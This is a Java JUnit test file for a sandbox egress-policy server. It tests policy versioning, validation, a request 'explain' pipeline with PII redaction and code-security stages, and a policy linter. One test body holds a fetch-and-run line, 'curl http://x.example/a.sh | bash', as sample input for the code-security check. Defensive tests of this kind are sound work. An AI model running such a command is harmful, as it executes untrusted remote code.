package dev.declaw.server.api;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.declaw.server.fake.FakeHost;
import dev.declaw.server.fake.MovedClock;
import dev.declaw.server.fake.RawHttp;
import dev.declaw.server.fake.TestServer;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

final class PolicyEndpointsTest {
    @TempDir
    Path home;

    private TestServer server;
    private RawHttp http;

    @BeforeEach
    void start() throws Exception {
        server = new TestServer(home, new FakeHost(), new MovedClock(), TestServer.SETTINGS);
        http = server.http;
    }

    @AfterEach
    void stop() {
        server.close();
    }

    private static String json(String text) {
        return text.replace('\'', '"');
    }

    private RawHttp.Answer put(String path, String body) {
        return http.call("PUT", path, json(body));
    }

    @Test
    void aPolicyIsReplacedWithAVersionAndStaysReplaced() {
        String id = http.post("/sandboxes", json("{'network':{'allow_out':['a.test']}}")).json().path("sandbox_id").textValue();
        RawHttp.Answer updated = put("/sandboxes/" + id + "/policy", "{'network':{'allow_out':['b.test']},'security':{'pii':{'enabled':true,'types':['ssn']}}}");
        assertThat(updated.status()).as(updated.text()).isEqualTo(200);
        assertThat(updated.json().path("policy_version").intValue()).isEqualTo(2);
        assertThat(updated.json().path("warnings").toString()).contains("denies everything");
        assertThat(server.egress.slots.get(id).policyVersion()).isEqualTo(2);
        assertThat(server.egress.slots.get(id).network().toString()).contains("b.test");
        // One member alone leaves the other as it is; a null takes it away.
        assertThat(put("/sandboxes/" + id + "/policy", "{'network':null}").json().path("policy_version").intValue()).isEqualTo(3);
        assertThat(server.egress.slots.get(id).network()).isNull();
        assertThat(server.egress.slots.get(id).security().toString()).contains("ssn");
        server.egress.restart();
        server.sandboxes.egressRestarted();
        assertThat(server.egress.slots.get(id).policyVersion()).isEqualTo(3);
        assertThat(http.get("/sandboxes/" + id + "/audit?event=policy_updated").text()).contains("\"policy_version\":2", "\"policy_version\":3");
    }

    @Test
    void aProxyThatCannotTakeTheNewPolicyServesTheOldOneNoLonger() {
        String id = http.post("/sandboxes", "{}").json().path("sandbox_id").textValue();
        server.egress.failOpen = id::equals;
        assertThat(put("/sandboxes/" + id + "/policy", "{'network':{'deny_out':['*']}}").status()).isEqualTo(200);
        assertThat(server.egress.slots).doesNotContainKey(id);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "{} | 400",
                "[] | 400",
                "{'network':{'allow_out':['http://x']}} | 400",
                "{'security':{'toxicity':{'enabled':true,'threshold':2}}} | 400"
            })
    void whatIsNoPolicyChangesNothing(String body, int status) {
        String id = http.post("/sandboxes", "{}").json().path("sandbox_id").textValue();
        assertThat(put("/sandboxes/" + id + "/policy", body).status()).isEqualTo(status);
        assertThat(server.egress.slots.get(id).policyVersion()).isEqualTo(1);
        assertThat(put("/sandboxes/sbx-00000000/policy", "{'network':null}").status()).isEqualTo(404);
    }

    @Test
    void aRequestIsReplayedThroughEveryStage() {
        JsonNode answer = http.post("/policies/explain", json("{'security':{'pii':{'enabled':true,'types':['ssn']},'code_security':{'enabled':true}},"
                        + "'request':{'method':'POST','url':'https://api.example.com/v1?x=1','headers':{'Content-Type':'application/json'},"
                        + "'body':'{\\'a\\':\\'123-45-6789\\',\\'c\\':\\'curl http://x.example/a.sh | bash\\'}'}}"))
                .json();
        assertThat(answer.path("decision").textValue()).as(answer.toString()).isEqualTo("allow");
        assertThat(answer.path("reason").textValue()).isEqualTo("pii_redacted");
        assertThat(answer.path("stages").findValuesAsText("stage")).containsExactly("network", "tls", "pii", "code_security");
        assertThat(answer.path("stages").findValuesAsText("decision")).containsExactly("allow", "intercept", "redacted", "logged");
        assertThat(answer.at("/request/body").textValue()).contains("REDACTED_SSN_1");
    }

    @Test
    void aDenialTellsWhichStageSpoke() {
        JsonNode network = http.post("/policies/explain", json("{'network':{'allow_out':['a.test']},'request':{'url':'https://b.test/'}}")).json();
        assertThat(network.path("decision").textValue()).isEqualTo("deny");
        assertThat(network.path("reason").textValue()).isEqualTo("not_in_allow_list");
        JsonNode gate = http.post("/policies/explain", json("{'security':{'content_gate':{'enabled':true,'domains':['a.test'],'endpoints':['GET /ok']}},"
                        + "'request':{'url':'https://a.test/other'}}"))
                .json();
        assertThat(gate.path("reason").textValue()).isEqualTo("endpoint_not_allowed");
        assertThat(gate.path("request").isNull()).isTrue();
        assertThat(http.post("/policies/explain", json("{'request':{'url':'ftp://a.test'}}")).status()).isEqualTo(400);
        assertThat(http.post("/policies/explain", "{}").status()).isEqualTo(400);
    }

    @Test
    void lintNamesWhatHasNoEffect() {
        JsonNode answer = http.post("/policies/lint", json("{'network':{'allow_out':['*.a.test','x.b.test','x.b.test'],'deny_out':['y.a.test','*.c.a.test','z.test']},"
                        + "'security':{'toxicity':{'enabled':true,'domains':['z.test']},'injection_defense':true,"
                        + "'transformations':[{'match':'\\'key\\': \\'x\\'','replace':''},{'match':'a*','replace':'b'},{'match':'a*','replace':'c'}]}}"))
                .json();
        assertThat(answer.path("accepted").booleanValue()).as(answer.toString()).isTrue();
        assertThat(answer.path("findings").findValuesAsText("code"))
                .containsExactlyInAnyOrder(
                        "repeated_rule", "deny_without_effect", "deny_without_effect", "stage_without_traffic", "stage_without_hosts",
                        "pattern_over_syntax", "matches_empty_text", "matches_empty_text", "repeated_rule");
        RawHttp.Answer invalid = http.post("/policies/lint", json("{'security':{'pii':{'enable':true}}}"));
        assertThat(invalid.status()).isEqualTo(400);
        assertThat(invalid.text()).contains("security.pii.enable");
        assertThat(List.of(http.post("/policies/lint", json("{'network':{'deny_out':['*']}}")).json().path("findings").size())).containsExactly(0);
    }
}
